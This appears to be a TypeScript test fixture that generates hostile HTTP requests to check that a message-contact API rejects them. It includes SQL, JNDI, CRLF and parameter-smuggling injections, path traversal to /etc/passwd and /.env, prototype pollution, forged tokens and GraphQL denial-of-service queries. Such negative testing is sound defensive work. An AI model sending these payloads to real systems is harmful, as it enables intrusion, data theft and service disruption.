import {
  CONTACT_OPERATIONS,
  OPERATIONS,
} from "../../src/upstream/operations.js";
import { documentFor } from "./apis.js";
import type { RawRequest } from "./raw-http.js";

const JSON_TYPE = { "content-type": "application/json" };

/** Values that are not valid ids, names or numbers, among them injections. */
export const INJECTIONS: readonly unknown[] = [
  "c-1&Action=DeleteMessageContact",
  "c-1&AccessKeyId=other",
  "c-1\r\nX-Injected: 1",
  "c-1\u0000",
  "../../../etc/passwd",
  "' OR '1'='1' --",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "\u202egnp.exe",
  "\ud800",
  "c-%00",
  "c-" + "A".repeat(65),
  "x".repeat(40_000),
  "",
  " ",
  0,
  -1,
  1e308,
  true,
  null,
  [],
  ["c-1"],
  [["c-1"]],
  {},
  { $gt: "" },
  { toString: "c-1" },
  { length: 5, 0: "c-1" },
];

/** Unknown fields, among them every parameter of the vendor's protocol. */
export const FOREIGN_FIELDS = [
  "Action",
  "action",
  "Version",
  "AccessKeyId",
  "Signature",
  "SignatureNonce",
  "Timestamp",
  "SecurityToken",
  "Format",
  "ContactId",
  "Members.1",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "$where",
] as const;

const operations = CONTACT_OPERATIONS;
const writes = operations.filter((one) => OPERATIONS[one].kind === "write");

const graphql = (
  name: string,
  body: string | Buffer,
  headers: Readonly<Record<string, string>> = JSON_TYPE,
): RawRequest => ({
  name: `graphql: ${name}`,
  method: "POST",
  path: "/graphql",
  headers,
  body,
});

const document = (name: string, query: string, variables?: object) =>
  graphql(name, JSON.stringify({ query, variables }));

const times = (count: number, one: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => one(index)).join(" ");

const READ = "messageContacts { totalCount }";

/** Bodies that are not GraphQL requests. */
function malformedBodies(): RawRequest[] {
  const query = JSON.stringify(`{ ${READ} }`);
  const bodies: Readonly<Record<string, string | Buffer>> = {
    empty: "",
    null: "null",
    number: "1",
    text: '"{ a }"',
    list: "[]",
    batch: `[{"query":${query}},{"query":${query}}]`,
    "batch of 1,000": `[${new Array(1_000).fill(`{"query":${query}}`).join(",")}]`,
    "no members": "{}",
    "no end": "{",
    "single quotes": "{'query':'{ a }'}",
    "trailing comma": `{"query":${query},}`,
    "trailing text": `{"query":${query}} x`,
    comment: `{"query":${query}/**/}`,
    "query is a number": '{"query":1}',
    "query is a list": '{"query":["{ a }"]}',
    "query is an object": '{"query":{"a":1}}',
    "query is null": '{"query":null}',
    "query is empty": '{"query":""}',
    "variables are text": `{"query":${query},"variables":"{}"}`,
    "variables are a list": `{"query":${query},"variables":[]}`,
    "operationName is a number": `{"query":${query},"operationName":1}`,
    "operationName is unknown": `{"query":${query},"operationName":"X"}`,
    "extensions are a list": `{"query":${query},"extensions":[]}`,
    __proto__: `{"query":${query},"__proto__":{"admin":true}}`,
    "__proto__ in variables": `{"query":${query},"variables":{"__proto__":{"a":1}}}`,
    "constructor.prototype": `{"query":${query},"constructor":{"prototype":{"a":1}}}`,
    "nested 20,000 deep": `${"[".repeat(20_000)}${"]".repeat(20_000)}`,
    "objects 8,000 deep": `${'{"a":'.repeat(8_000)}1${"}".repeat(8_000)}`,
    "invalid UTF-8": Buffer.from([0x7b, 0xff, 0xfe, 0x7d]),
    "UTF-16": Buffer.from(`{"query":${query}}`, "utf16le"),
    "NUL bytes": Buffer.alloc(1_000),
    gzip: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]),
    "64 KiB and one": `{"query":"${"x".repeat(65_530)}"}`,
    "1 MiB": "x".repeat(1024 * 1024),
  };
  return Object.entries(bodies).map(([name, body]) => graphql(name, body));
}

/** A valid document under content types that a form can send, or that are ambiguous. */
function contentTypes(): RawRequest[] {
  const body = JSON.stringify({ query: `{ ${READ} }` });
  return [
    "text/plain",
    "text/plain;application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/graphql",
    "application/xml",
    "text/html",
    "*/*",
    "application/jsonx",
    "application/json-patch+json",
    "application",
    "json",
    "application/json, text/plain",
    "text/plain, application/json",
    "application/json/x",
    ";",
  ].map((type) =>
    graphql(`content type ${type}`, body, { "content-type": type }),
  );
}

/** Expensive documents, and invalid ones. */
function documents(): RawRequest[] {
  const fragments = (count: number, body: (index: number) => string) =>
    times(count, (i) => `fragment F${i} on Query { ${body(i)} }`);
  const hostile: Readonly<Record<string, string>> = {
    "31 aliases": `{ ${times(31, (i) => `a${i}: ${READ}`)} }`,
    "200 aliases": `{ ${times(200, (i) => `a${i}: ${READ}`)} }`,
    "21 root fields": `{ ${times(21, () => READ)} }`,
    "21 directives": `{ messageContacts ${times(21, () => "@include(if: true)")} { totalCount } }`,
    "300 directives": `{ messageContacts ${times(300, () => "@skip(if: false)")} { totalCount } }`,
    "1,001 tokens": `{ ${"a ".repeat(1_001)} }`,
    "20,000 tokens": `{ ${"a ".repeat(20_000)} }`,
    "9 levels": `{ ${"a { ".repeat(9)} b ${"} ".repeat(9)} }`,
    "400 levels": `{ ${"a { ".repeat(400)} b ${"} ".repeat(400)} }`,
    "a circle of fragments": `{ ...F0 } ${fragments(2, (i) => `...F${1 - i}`)}`,
    "doubling fragments": `{ ...F0 } ${fragments(30, (i) => (i === 29 ? READ : `...F${i + 1} ...F${i + 1}`))}`,
    "aliases in doubling fragments": `{ ...F0 } ${fragments(12, (i) => (i === 11 ? `x: ${READ}` : `...F${i + 1} ...F${i + 1}`))}`,
    "deep introspection":
      "{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }",
    "two mutations":
      'mutation { a: deleteMessageContact(input: { contactId: "c-1" }) { errors { code } } b: deleteMessageContact(input: { contactId: "c-2" }) { errors { code } } }',
    "two mutations in a fragment":
      'mutation { ...F ...F2 } fragment F on Mutation { a: deleteMessageContact(input: { contactId: "c-1" }) { errors { code } } } fragment F2 on Mutation { b: deleteMessageContact(input: { contactId: "c-2" }) { errors { code } } }',
    "two operations without a name": `query A { ${READ} } query B { ${READ} }`,
    "a subscription over POST":
      'subscription { messageContactDeletionStatus(contactId: "c-1") { state } }',
    "an unknown field": "{ password }",
    "an unknown type": "query ($x: Secret) { messageContacts { totalCount } }",
    "an unknown directive": "{ messageContacts @admin { totalCount } }",
    "a variable that is not declared": `{ messageContacts(pageNumber: $x) { totalCount } }`,
    "a schema definition": "type Query { a: Int }",
    "a number beyond 32 bits":
      "{ messageContacts(pageNumber: 99999999999) { totalCount } }",
    "a page that is too large":
      "{ messageContacts(pageSize: 101) { totalCount } }",
    "a page below one": "{ messageContacts(pageNumber: 0) { totalCount } }",
    "an object where a number belongs":
      "{ messageContacts(pageNumber: { a: 1 }) { totalCount } }",
    "a string without an end": '{ messageContact(id: "c-1',
    "a block string without an end": '{ messageContact(id: """c-1',
    "a bad escape": '{ messageContact(id: "\\u{110000}") { id } }',
    "a lone surrogate": '{ messageContact(id: "\\ud800") { id } }',
    "a NUL": "{ messageContact\u0000 }",
    "a byte order mark inside": "{ message\ufeffContacts { totalCount } }",
    "only a comment": "# nothing",
    "only white space": " \n\t,",
    "a thousand braces": "{".repeat(900),
    "colons and bangs": "{ a: b: c! }",
  };
  const whole = documentFor("addMessageContact");
  const cut = Array.from({ length: 40 }, (_, index) =>
    document(
      `a document cut after ${index * 2 + 1}`,
      whole.slice(0, index * 2 + 1),
    ),
  );
  return [
    ...Object.entries(hostile).map(([name, query]) => document(name, query)),
    ...cut,
  ];
}

/** Every write with invalid values and unknown fields. */
function injectedWrites(): RawRequest[] {
  const valid = { contactId: "c-1", emailAddress: 1 };
  return writes.flatMap((operation) => [
    ...INJECTIONS.map((value, index) =>
      document(`${operation}, value ${index}`, documentFor(operation), {
        input: {
          ...valid,
          contactId: value,
          name: value,
          emailAddress: value,
          phoneNumber: value,
          targetIds: value,
        },
      }),
    ),
    ...FOREIGN_FIELDS.map((field) =>
      document(`${operation} with ${field}`, documentFor(operation), {
        input: { contactId: "c-1", [field]: "x" },
      }),
    ),
  ]);
}

const ROOT = "/v1/message-contacts";

const SUFFIXES = [
  ["GET", ""],
  ["GET", "/deletion"],
  ["GET", "/verifications"],
  ["PATCH", ""],
  ["DELETE", ""],
  ["POST", "/cancel-update"],
  ["POST", "/verifications/email"],
  ["POST", "/verifications/phone"],
  ["POST", "/bindings"],
  ["DELETE", "/bindings"],
] as const;

/** Path segments that are not ids. */
const PATH_IDS = [
  "c-1%26Action%3DDeleteMessageContact",
  "c-1%0d%0aX-Injected:%201",
  "c-1%00",
  "%2e%2e%2f%2e%2e",
  "%252e%252e",
  "c-%zz",
  "%",
  "%ff%fe",
  "c-1;x=1",
  "C-1",
  "1",
  "__proto__",
  "constructor",
  "'%20OR%201=1--",
  "$%7Bjndi:ldap:%7D",
  `c-${"A".repeat(65)}`,
  `c-${"A".repeat(250)}`,
  "x".repeat(2_000),
  "%E2%80%AE",
] as const;

function restPaths(): RawRequest[] {
  return SUFFIXES.flatMap(([method, suffix]) =>
    PATH_IDS.map((id) => ({
      name: `rest: ${method} ${suffix} with id ${id.slice(0, 40)}`,
      method,
      path: `${ROOT}/${id}${suffix}`,
      ...(method === "PATCH" || method === "POST"
        ? { headers: JSON_TYPE, body: "{}" }
        : {}),
    })),
  );
}

function restBodies(): RawRequest[] {
  const raw = [
    "",
    "null",
    "[]",
    "1",
    '"x"',
    "{",
    '{"__proto__":{"a":1}}',
    '{"constructor":{"prototype":{"a":1}}}',
    '{"contactId":"c-2"}',
    '{"title":null}',
    '{"title":"UNRECOGNISED"}',
    '{"messageTypes":[]}',
    '{"messageTypes":"FAULT_MESSAGE"}',
    '{"targetIds":[]}',
    '{"targetIds":["1","1"]}',
    `{"targetIds":${JSON.stringify(new Array(60).fill("rd-1"))}}`,
    `{"name":"${"张".repeat(13)}"}`,
    `{"emailAddress":"${"a".repeat(300)}@example.com"}`,
    '{"phoneNumber":"86-139****1234"}',
    "x".repeat(70_000),
    ...FOREIGN_FIELDS.map((field) => JSON.stringify({ [field]: "x" })),
  ];
  const targets = SUFFIXES.filter(
    ([method]) => method !== "GET" && method !== "DELETE",
  ).map(([method, suffix]): [string, string] => [
    method,
    `${ROOT}/c-1${suffix}`,
  ]);
  return [...targets, ["POST", ROOT] as [string, string]].flatMap(
    ([method, path]) =>
      raw.map((body) => ({
        name: `rest: ${method} ${path} with ${body.slice(0, 40)}`,
        method,
        path,
        headers: JSON_TYPE,
        body,
      })),
  );
}

function restQueries(): RawRequest[] {
  return [
    "pageNumber=0",
    "pageNumber=-1",
    "pageNumber=1e3",
    "pageNumber=0x10",
    "pageNumber=99999999999",
    "pageNumber=1&pageNumber=2",
    "pageSize=101",
    "pageSize=",
    "boundTo=",
    "boundTo=x",
    "boundTo=rd-1&boundTo=rd-2",
    "boundTo[]=rd-1",
    "boundTo[a]=rd-1",
    "Action=DeleteMessageContact",
    "__proto__=1",
    "__proto__[a]=1",
    "constructor=1",
    "access_token=x",
    "%ff=%fe",
    "a".repeat(6_000),
    `${"a=1&".repeat(1_000)}b`,
    "boundTo=%00",
    "pageNumber=%F0%9F%92%A9",
  ].map((query) => ({
    name: `rest: list with ${query.slice(0, 40)}`,
    method: "GET",
    path: `${ROOT}?${query}`,
  }));
}

function methodsAndHeads(): RawRequest[] {
  const methods = ["PUT", "TRACE", "OPTIONS", "LINK", "PROPFIND", "LOCK"];
  const overrides = [
    "x-http-method-override",
    "x-http-method",
    "x-method-override",
  ];
  const heads: readonly (readonly [string, Record<string, string>])[] = [
    ["a foreign origin", { origin: "https://evil.example" }],
    ["the origin null", { origin: "null" }],
    ["another site", { "sec-fetch-site": "cross-site" }],
    ["a name that was pointed here", { host: "evil.example" }],
    ["an unknown directory", { "x-resource-directory": "other" }],
    ["a directory of the prototype", { "x-resource-directory": "__proto__" }],
    ["a wrong key", { "x-api-key": "mcg_wrong" }],
    ["basic credentials", { authorization: "Basic YTpi" }],
    ["a forged token", { authorization: "Bearer eyJhbGciOiJub25lIn0.e30." }],
    ["two credentials", { authorization: "Bearer x", "x-api-key": "mcg_x" }],
    ["headers beyond 16 KiB", { "x-large": "x".repeat(20_000) }],
  ];
  return [
    ...methods.flatMap((method) =>
      [ROOT, `${ROOT}/c-1`, "/graphql", "/"].map((path) => ({
        name: `${method} ${path}`,
        method,
        path,
      })),
    ),
    ...overrides.map((header) => ({
      name: `method override by ${header}`,
      method: "POST",
      path: `${ROOT}/c-1`,
      headers: { ...JSON_TYPE, [header]: "DELETE" },
      body: "{}",
    })),
    ...heads.flatMap(([name, headers]) => [
      { name: `rest: ${name}`, method: "GET", path: ROOT, headers },
      graphql(name, JSON.stringify({ query: `{ ${READ} }` }), {
        ...JSON_TYPE,
        ...headers,
      }),
    ]),
    {
      name: "graphql: GET with a query",
      method: "GET",
      path: `/graphql?query=${encodeURIComponent(`{ ${READ} }`)}`,
    },
    ...[
      "/v1/../v1/message-contact",
      "//evil.example/v1/message-contacts",
      "/v1/message-contacts%2f",
      "/V1/MESSAGE-CONTACTS",
      "/_emulator",
      "/_emulator/reset",
      "/.env",
      "/.git/config",
      "/metrics",
      "/playground/%2e%2e/%2e%2e/package.json",
      "/docs/assets/x/..%2f..%2f..%2fpackage.json",
      "/playground/assets/../../../package.json",
      "/errors/__proto__",
      "/errors/<script>",
    ].map((path) => ({ name: `path ${path}`, method: "GET", path })),
  ];
}

/** The whole corpus. Each request is rejected without an upstream call. */
export function hostileRequests(): RawRequest[] {
  return [
    ...malformedBodies(),
    ...contentTypes(),
    ...documents(),
    ...injectedWrites(),
    ...restPaths(),
    ...restBodies(),
    ...restQueries(),
    ...methodsAndHeads(),
  ];
}
